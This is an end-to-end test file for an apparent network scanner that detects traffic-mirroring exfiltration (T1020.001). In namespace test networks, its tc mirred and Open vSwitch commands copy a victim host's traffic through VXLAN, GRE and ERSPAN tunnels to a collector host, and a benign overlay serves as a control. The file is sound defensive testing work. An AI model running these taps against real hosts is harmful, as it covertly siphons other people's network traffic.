// End to end: traffic mirroring (T1020.001) with the real kernel. On the
// namespace LAN the victim's own traffic is copied with tc mirred into a
// VXLAN (and, where the kernel has it, ERSPAN) device whose remote is a
// collector host; without kernel GRE/ERSPAN devices, an Open vSwitch (userspace
// datapath) mirror into a GRE or ERSPAN tunnel port does it. The bridge capture is
// scanned. Benign counterpart: a plain VXLAN overlay between two hosts,
// traffic both ways. Needs root (and openvswitch-switch where the kernel lacks
// ERSPAN); see README.md.

import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Finding } from '../../src/findings/finding.js';
import { describe, hasEntity } from '../helpers/captures.js';
import type { CliRun } from '../helpers/cli.js';
import { assertExit, assertNothingLoud, E2eWorkDir, freshLan, scanAll, skipUnless, tcpdumpPackets } from '../helpers/e2e.js';
import { GATEWAY, UPSTREAM, VICTIM, type HostSpec, type Lan } from '../helpers/netns-lan.js';
import { ovsMissing, ovsUnderlay, startOvs } from '../helpers/ovs.js';

const COLLECTOR: HostSpec = { name: 'collector', ip: '198.18.0.30', mac: '02:53:57:00:00:1e' };
const PEER: HostSpec = { name: 'peer', ip: '198.18.0.31', mac: '02:53:57:00:00:1f' };
/** Overlay addresses of the benign VXLAN, inside 198.18.0.0/15 but apart from the LAN and upstream subnets. */
const OVERLAY_VICTIM = '198.19.42.1';
const OVERLAY_PEER = '198.19.42.2';
const VNI = '42';

const work = new E2eWorkDir('mirror');
const workDir = work.path;

function scan(pcap: string, config?: string): CliRun {
  const r = scanAll(pcap, config ? ['--config', config] : []);
  assertExit(r, 0);
  return r;
}

function t1020(findings: readonly Finding[]): Finding[] {
  return findings.filter((f) => f.attack.techniques.includes('T1020.001'));
}

/** A LAN with the collector and the VXLAN peer as extra hosts; undefined when the test was skipped. */
async function mirrorLan(t: TestContext): Promise<Lan | undefined> {
  if (!(await skipUnless(t, ['tc']))) return undefined;
  return freshLan(t, { extraHosts: [COLLECTOR, PEER] });
}

/** Creates a tunnel device on a host; returns why the kernel refused it (for a skip), or undefined. */
async function addDevice(lan: Lan, host: string, argv: string[]): Promise<string | undefined> {
  const r = await lan.exec(host, ['ip', 'link', 'add', ...argv], { okCodes: [0, 1, 2] });
  if (r.code !== 0) return `kernel refused 'ip link add ${argv.join(' ')}': ${r.stderr.trim().split('\n')[0]}`;
  await lan.exec(host, ['ip', 'link', 'set', argv[0]!, 'up']);
  return undefined;
}

/**
 * Copies what the victim's eth0 receives and sends into `device`, the way an
 * intruder with root on a host (or on its hypervisor) taps it. The tunnel's
 * own packets also leave through eth0 and must not be copied again, and this
 * kernel may lack the gact "pass" action and matchall, so egress copies only
 * ARP, ICMP and TCP (u32 matches); ingress copies everything.
 */
async function mirrorInto(lan: Lan, device: string): Promise<void> {
  const tc = (args: string[], okCodes = [0]): ReturnType<Lan['exec']> => lan.exec('victim', ['tc', 'filter', 'add', 'dev', 'eth0', ...args], { okCodes });
  const mirror = ['action', 'mirred', 'egress', 'mirror', 'dev', device];
  await lan.exec('victim', ['tc', 'qdisc', 'add', 'dev', 'eth0', 'clsact']);
  const matchall = await tc(['ingress', 'prio', '1', 'matchall', ...mirror], [0, 1, 2]);
  if (matchall.code !== 0) await tc(['ingress', 'prio', '1', 'u32', 'match', 'u32', '0', '0', ...mirror]);
  await tc(['egress', 'protocol', 'arp', 'prio', '1', 'u32', 'match', 'u32', '0', '0', ...mirror]);
  for (const proto of ['1', '6']) await tc(['egress', 'protocol', 'ip', 'prio', '2', 'u32', 'match', 'ip', 'protocol', proto, '0xff', ...mirror]);
}

/** The victim talks to the upstream host through the gateway: both directions cross its eth0. */
async function victimTraffic(lan: Lan): Promise<void> {
  await lan.exec('victim', ['ping', '-n', '-c', '8', '-i', '0.3', UPSTREAM.ip], { timeoutMs: 20_000 });
}

/** Starts copying the victim's traffic once the capture runs; a string says why it cannot. */
type MirrorStart = (() => Promise<void>) | string;

/**
 * Mirrors the victim with a tunnel device and tc; when the kernel refuses the
 * device, with `fallback` if given.
 */
async function mirrorRun(t: TestContext, name: string, device: string[], fallback?: (lan: Lan) => Promise<MirrorStart>): Promise<string | undefined> {
  const lan = await mirrorLan(t);
  if (!lan) return undefined;
  let start: MirrorStart = () => mirrorInto(lan, device[0]!);
  const refused = await addDevice(lan, 'victim', device);
  if (refused) start = fallback ? await fallback(lan) : refused;
  if (typeof start === 'string') {
    t.skip(refused === start ? start : `${refused}; ${start}`);
    return undefined;
  }
  const pcap = join(workDir, `${name}.pcap`);
  const cap = await lan.startCapture(pcap);
  await start();
  await victimTraffic(lan);
  await cap.stop();
  return pcap;
}

test('VXLAN mirror of the victim to a collector is T1020.001 naming the collector; allowed in config it is not', { timeout: 90_000 }, async (t) => {
  const pcap = await mirrorRun(t, 'vxlan-mirror', ['vx0', 'type', 'vxlan', 'id', VNI, 'remote', COLLECTOR.ip, 'dstport', '4789', 'dev', 'eth0']);
  if (!pcap) return;
  await t.test('capture holds VXLAN from the victim to the collector', (st) =>
    work.withPcap(st, pcap, () => {
      assert.ok(tcpdumpPackets(pcap, `udp dst port 4789 and src host ${VICTIM.ip} and dst host ${COLLECTOR.ip}`).length >= 8, 'too few mirrored packets');
    }),
  );
  await t.test('scan reports T1020.001 with the collector and the mirroring host', (st) =>
    work.withPcap(st, pcap, () => {
      const r = scan(pcap);
      const hit = t1020(r.findings).find((f) => hasEntity(f, 'ip', COLLECTOR.ip, 'collector'));
      assert.ok(hit, `no T1020.001 finding naming collector ${COLLECTOR.ip}:\n${describe(r.findings)}`);
      assert.equal(hit.rule_id, 'mirror-tunnel-copies');
      assert.equal(hit.severity, 'high');
      assert.ok(hasEntity(hit, 'ip', VICTIM.ip, 'source'), describe([hit]));
      assert.ok(hasEntity(hit, 'ip', UPSTREAM.ip, 'mirrored'), describe([hit]));
      assert.ok(r.findings.some((f) => f.rule_id === 'tunnel-observed' && f.message.startsWith(`VXLAN ${VICTIM.ip} -> ${COLLECTOR.ip} (vni ${VNI})`)));
    }),
  );
  await t.test('with mirror.collectors naming the collector, no T1020.001', (st) =>
    work.withPcap(st, pcap, () => {
      const config = join(workDir, 'allowed.yml');
      writeFileSync(config, `mirror:\n  collectors: [${COLLECTOR.ip}]\n`);
      const r = scan(pcap, config);
      assert.deepEqual(t1020(r.findings), [], describe(t1020(r.findings)));
    }),
  );
});

/**
 * The same tap with Open vSwitch's userspace datapath, which builds GRE and
 * ERSPAN itself: the victim's eth0 on a netdev bridge that holds its address,
 * and a mirror of eth0 into a tunnel port of `type` (OVS puts `key` in the GRE
 * key, and in ERSPAN's session id).
 */
async function ovsTunnelMirror(t: TestContext, lan: Lan, type: 'gre' | 'erspan', options: string[]): Promise<MirrorStart> {
  const missing = ovsMissing(['ovs-appctl']);
  if (missing) return missing;
  const ovs = await startOvs(t, lan, 'victim', mkdtempSync(join(workDir, 'ovs-')));
  await ovsUnderlay(lan, ovs, VICTIM, 'br-phy', GATEWAY.ip);
  // Without a neighbour entry OVS drops copies while it resolves the collector by ARP.
  await ovs.appctl(['tnl/arp/set', 'br-phy', COLLECTOR.ip, COLLECTOR.mac]);
  // Port and mirror in one transaction: as a plain port, the tunnel would get
  // flooded broadcasts, including OVS's own ARP requests for the collector (a loop).
  return async () => {
    await ovs.vsctl([
      'add-port', 'br-phy', 'tun0', '--', 'set', 'interface', 'tun0', `type=${type}`, `options:remote_ip=${COLLECTOR.ip}`, ...options.map((o) => `options:${o}`),
      '--', '--id=@src', 'get', 'port', 'eth0',
      '--', '--id=@out', 'get', 'port', 'tun0',
      '--', '--id=@m', 'create', 'mirror', 'name=tap-victim', 'select-src-port=@src', 'select-dst-port=@src', 'output-port=@out',
      '--', 'set', 'bridge', 'br-phy', 'mirrors=@m',
    ]);
  };
}

test('GRE (Ethernet over GRE) mirror of the victim to a collector is T1020.001 naming the collector', { timeout: 90_000 }, async (t) => {
  const device = ['gt0', 'type', 'gretap', 'key', '77', 'local', VICTIM.ip, 'remote', COLLECTOR.ip];
  const pcap = await mirrorRun(t, 'gre-mirror', device, (lan) => ovsTunnelMirror(t, lan, 'gre', ['key=77']));
  if (!pcap) return;
  await t.test('capture holds Ethernet-over-GRE (protocol 0x6558) from the victim to the collector', (st) =>
    work.withPcap(st, pcap, () => {
      // The GRE header's protocol field (after the IP header and GRE's flags) says Ethernet: 0x6558, Transparent Ethernet Bridging.
      // tcpdump's text does not name it for every inner packet, so the filter reads the field itself.
      const teb = tcpdumpPackets(pcap, `ip proto 47 and src host ${VICTIM.ip} and dst host ${COLLECTOR.ip} and ip[(ip[0] & 0x0f) * 4 + 2:2] = 0x6558`);
      const gre = tcpdumpPackets(pcap, `ip proto 47 and src host ${VICTIM.ip} and dst host ${COLLECTOR.ip}`, ['-v']);
      assert.ok(teb.length >= 8, `too few GRE packets carrying Ethernet (${teb.length}):\n${gre.slice(0, 5).join('\n')}`);
    }),
  );
  await t.test('scan reports T1020.001 with the collector, the mirroring host and the mirrored peer', (st) =>
    work.withPcap(st, pcap, () => {
      const r = scan(pcap);
      const hit = t1020(r.findings).find((f) => hasEntity(f, 'ip', COLLECTOR.ip, 'collector'));
      assert.ok(hit, `no T1020.001 finding naming collector ${COLLECTOR.ip}:\n${describe(r.findings)}`);
      assert.equal(hit.rule_id, 'mirror-tunnel-copies');
      assert.ok(hasEntity(hit, 'ip', VICTIM.ip, 'source'), describe([hit]));
      assert.ok(hasEntity(hit, 'ip', UPSTREAM.ip, 'mirrored'), describe([hit]));
    }),
  );
});

test('ERSPAN mirror of the victim to a collector is T1020.001', { timeout: 90_000 }, async (t) => {
  // Linux puts the GRE key in the ERSPAN session id field; `erspan 123` is the index.
  const device = ['er0', 'type', 'erspan', 'seq', 'key', '100', 'local', VICTIM.ip, 'remote', COLLECTOR.ip, 'erspan_ver', '1', 'erspan', '123'];
  const pcap = await mirrorRun(t, 'erspan-mirror', device, (lan) => ovsTunnelMirror(t, lan, 'erspan', ['key=100', 'erspan_ver=1', 'erspan_idx=123']));
  if (!pcap) return;
  await t.test('capture holds ERSPAN (GRE protocol 0x88be or 0x22eb) from the victim to the collector', (st) =>
    work.withPcap(st, pcap, () => {
      const gre = tcpdumpPackets(pcap, `ip proto 47 and src host ${VICTIM.ip} and dst host ${COLLECTOR.ip}`, ['-v']);
      assert.ok(gre.filter((l) => /0x88be|0x22eb|ERSPAN/i.test(l)).length >= 8, `too few ERSPAN packets:\n${gre.slice(0, 5).join('\n')}`);
    }),
  );
  await t.test('scan reports mirror-erspan-tzsp with the collector, the source and the session', (st) =>
    work.withPcap(st, pcap, () => {
      const r = scan(pcap);
      const hit = t1020(r.findings).find((f) => f.rule_id === 'mirror-erspan-tzsp' && hasEntity(f, 'ip', COLLECTOR.ip, 'collector'));
      assert.ok(hit, `no mirror-erspan-tzsp finding naming ${COLLECTOR.ip}:\n${describe(r.findings)}`);
      assert.ok(hasEntity(hit, 'ip', VICTIM.ip, 'source'));
      assert.ok(hit.entities.some((e) => e.role === 'session' && e.value.endsWith('session 100')), describe([hit]));
    }),
  );
});

test('a VXLAN overlay between two hosts with traffic both ways is benign', { timeout: 90_000 }, async (t) => {
  const lan = await mirrorLan(t);
  if (!lan) return;
  for (const [host, remote, overlay] of [
    ['victim', PEER.ip, OVERLAY_VICTIM],
    ['peer', VICTIM.ip, OVERLAY_PEER],
  ] as const) {
    const refused = await addDevice(lan, host, ['vx0', 'type', 'vxlan', 'id', VNI, 'remote', remote, 'dstport', '4789', 'dev', 'eth0']);
    if (refused) {
      t.skip(refused);
      return;
    }
    await lan.exec(host, ['ip', 'addr', 'add', `${overlay}/24`, 'dev', 'vx0']);
  }
  const pcap = join(workDir, 'vxlan-overlay.pcap');
  const cap = await lan.startCapture(pcap);
  await lan.exec('victim', ['ping', '-n', '-c', '6', '-i', '0.3', OVERLAY_PEER], { timeoutMs: 20_000 });
  await lan.exec('peer', ['ping', '-n', '-c', '6', '-i', '0.3', OVERLAY_VICTIM], { timeoutMs: 20_000 });
  await cap.stop();
  await t.test('scan decodes the overlay in both directions and reports nothing medium or above', (st) =>
    work.withPcap(st, pcap, () => {
      assert.ok(tcpdumpPackets(pcap, 'udp dst port 4789').length >= 24, 'overlay traffic missing from the capture');
      const r = scan(pcap);
      assertNothingLoud(r.findings, 'benign overlay');
      for (const [src, dst] of [
        [VICTIM.ip, PEER.ip],
        [PEER.ip, VICTIM.ip],
      ]) {
        const inventory = r.findings.find((f) => f.rule_id === 'tunnel-observed' && f.message.startsWith(`VXLAN ${src} -> ${dst} (vni ${VNI}): `));
        assert.ok(inventory && /: ([1-9]\d*) inner frames? decoded$/.test(inventory.message), `overlay ${src} -> ${dst} not decoded:\n${describe(r.findings)}`);
      }
    }),
  );
});
